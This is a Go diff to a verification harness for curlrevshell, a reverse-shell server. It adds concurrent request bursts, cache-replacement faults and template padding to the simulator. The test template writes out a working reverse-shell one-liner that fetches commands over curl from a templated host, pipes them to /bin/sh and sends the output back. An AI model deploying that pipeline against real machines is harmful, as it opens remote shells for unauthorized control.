@@ -2,6 +2,8 @@ package hsrvsim
 
 import (
 	"bytes"
+	"crypto/sha256"
+	"encoding/base64"
 	"fmt"
 	"net"
 	"net/url"
@@ -11,6 +13,8 @@ import (
 	"time"
 
 	"github.com/magisterquis/curlrevshell/internal/hsrv"
+	"github.com/magisterquis/curlrevshell/lib/sstls"
+	"github.com/magisterquis/curlrevshell/verifharness/simkit"
 )
 
 func (s *sim) next() (Action, bool) {
@@ -66,6 +70,14 @@ func (s *sim) precond(a Action) error {
 			return fmt.Errorf("not up")
 		}
 	case "tmpl", "del_cache", "sleep":
+	case "regen_cache":
+	case "burst_c":
+		if !up || a.N < 2 || a.N > 8 {
+			return fmt.Errorf("not up or bad burst size")
+		}
+		if s.boot.act.OneShell && s.boot.ready > 0 {
+			return fmt.Errorf("listener is expected to be closed")
+		}
 	case "get_c", "probe", "open_in", "open_out", "open_io":
 		if !up {
 			return fmt.Errorf("not up")
@@ -128,8 +140,22 @@ func (s *sim) precond(a Action) error {
 	return nil
 }
 
+// pad brings every template variant to one size (so that a cache keyed on size
+// and time stamp cannot tell them apart).
+func pad(t string) string {
+	const size = 420
+	for len(t) < size-1 {
+		t += "#"
+	}
+	return t + "\n"
+}
+
 func validTemplate(k int) string {
-	return fmt.Sprintf("#!/bin/sh\n# marker-%d\ncurl -Nsk --pinnedpubkey \"sha256//{{.PubkeyFP}}\" https://{{.URL}}/i/{{.ID}} </dev/null 2>&0 |\n/bin/sh 2>&1 |\ncurl -Nsk --pinnedpubkey \"sha256//{{.PubkeyFP}}\" https://{{.URL}}/o/{{.ID}} -T- >/dev/null 2>&1\n", k)
+	return pad(validTemplate0(k))
+}
+
+func validTemplate0(k int) string {
+	return fmt.Sprintf("#!/bin/sh\n# marker-%04d\ncurl -Nsk --pinnedpubkey \"sha256//{{.PubkeyFP}}\" https://{{.URL}}/i/{{.ID}} </dev/null 2>&0 |\n/bin/sh 2>&1 |\ncurl -Nsk --pinnedpubkey \"sha256//{{.PubkeyFP}}\" https://{{.URL}}/o/{{.ID}} -T- >/dev/null 2>&1\n", k)
 }
 
 func (s *sim) apply(a Action) {
@@ -151,10 +177,10 @@ func (s *sim) apply(a Action) {
 		case "valid":
 			_ = os.WriteFile(s.tmplPath, []byte(validTemplate(a.N)), 0o600)
 		case "unparsable":
-			_ = os.WriteFile(s.tmplPath, []byte("#!/bin/sh\n{{.URL"), 0o600)
+			_ = os.WriteFile(s.tmplPath, []byte(pad("#!/bin/sh\n{{.URL\n")), 0o600)
 			s.fault("template_unparsable")
 		case "execfail":
-			_ = os.WriteFile(s.tmplPath, []byte("#!/bin/sh\necho before {{.Nope}} after\n"), 0o600)
+			_ = os.WriteFile(s.tmplPath, []byte(pad("#!/bin/sh\necho before {{.Nope}} after\n")), 0o600)
 			s.fault("template_exec_error")
 		case "empty":
 			_ = os.WriteFile(s.tmplPath, nil, 0o600)
@@ -165,8 +191,27 @@ func (s *sim) apply(a Action) {
 			_ = os.Mkdir(s.tmplPath, 0o700)
 			s.fault("template_unreadable")
 		}
+		if s.cfg.CoarseDisk {
+			// a file system with coarse time stamps (or cp -p, rsync -t): every
+			// version of the file carries the same modification time
+			t := time.Date(2024, 9, 19, 12, 0, 0, 0, time.UTC)
+			_ = os.Chtimes(s.tmplPath, t, t)
+			s.probes["template_same_mtime"]++
+		}
 	case "get_c":
 		s.getC(a)
+	case "burst_c":
+		s.burstC(a)
+	case "regen_cache":
+		// another instance (or the operator) replaces the cache file while this
+		// server is running: what is served must stay what is advertised
+		_ = os.Remove(s.cachePath)
+		s.cachePin = ""
+		if cert, err := sstls.GetCertificate("", nil, nil, 0, s.cachePath); err == nil && cert.Leaf != nil {
+			h := sha256.Sum256(cert.Leaf.RawSubjectPublicKeyInfo)
+			s.cachePin = base64.StdEncoding.EncodeToString(h[:])
+		}
+		s.fault("cache_replaced_while_running")
 	case "probe":
 		s.probe()
 	case "open_in", "open_out", "open_io":
@@ -241,11 +286,44 @@ var (
 
 // getC requests the callback script and judges the answer (C07, C05).
 func (s *sim) getC(a Action) {
+	c := s.getCStart(a)
+	if c == nil {
+		return
+	}
+	s.settle()
+	s.getCJudge(a, c)
+}
+
+// burstC makes several /c requests at once, on separate connections, and
+// judges every answer: overlapping requests must not disturb each other.
+func (s *sim) burstC(a Action) {
+	r := simkit.NewRNG(uint64(a.N), uint64(len(s.actions)))
+	var as []Action
+	var cs []*client
+	for i := 0; i < a.N; i++ {
+		ai := Action{K: "get_c", Host: hostsPool[r.Intn(len(hostsPool))], SNI: sniPool[r.Intn(len(sniPool))]}
+		if r.Chance(1, 2) {
+			ai.C2Q = c2Pool[r.Intn(len(c2Pool))]
+		}
+		c := s.getCStart(ai)
+		if c == nil {
+			return
+		}
+		as, cs = append(as, ai), append(cs, c)
+	}
+	s.settle()
+	for i := range cs {
+		s.getCJudge(as[i], cs[i])
+	}
+	s.probes["script_bursts"]++
+}
+
+func (s *sim) getCStart(a Action) *client {
 	b := s.boot
 	c, err := s.dial(a.SNI)
 	if err != nil {
 		s.harnessErr = "dial for /c failed: " + err.Error()
-		return
+		return nil
 	}
 	if b.pin == "" {
 		b.pin = c.pin
@@ -277,9 +355,13 @@ func (s *sim) getC(a Action) {
 	c.pump(method)
 	if err := c.write([]byte(req)); err != nil {
 		s.harnessErr = "writing /c request: " + err.Error()
-		return
+		return nil
 	}
-	s.settle()
+	return c
+}
+
+func (s *sim) getCJudge(a Action, c *client) {
+	b := s.boot
 	status, rb, eof, done, rerr := c.snapshot()
 	c.closeConn(false)
 	if !done || rerr != nil || !eof {
@@ -345,7 +427,7 @@ func (s *sim) getC(a Action) {
 	}
 	if state == "valid" {
 		// the body must be the CURRENT file's text rendered
-		if !bytes.Contains(rb, []byte(fmt.Sprintf("# marker-%d\n", s.tmplK))) {
+		if !bytes.Contains(rb, []byte(fmt.Sprintf("# marker-%04d\n", s.tmplK))) {
 			s.violate("C07", "template-reread", "script does not come from the current template file",
 				"template file now carries marker-%d but the script is %q", s.tmplK, clip(rb))
 			return
